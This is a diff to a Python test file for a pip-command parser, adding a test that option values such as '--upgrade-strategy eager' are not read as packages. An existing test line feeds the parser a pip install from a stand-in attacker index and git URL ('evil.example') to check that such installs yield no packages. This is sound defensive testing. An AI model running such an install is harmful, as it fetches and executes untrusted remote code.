@@ -53,3 +53,10 @@ def test_an_install_from_elsewhere_is_no_package() -> None:
     reading = read_command("pip install --index-url https://evil.example/ git+https://evil.example/x $THING -e git+https://e/x")
     assert reading.packages == Packages()
     assert reading.command == ""
+
+
+def test_the_values_of_pips_options_are_no_packages() -> None:
+    reading = read_command(
+        "pip install --upgrade-strategy eager -U --root-user-action ignore --only-binary :all: attrs --group dev"
+    )
+    assert reading.packages == Packages(("attrs",), groups=("dev",))
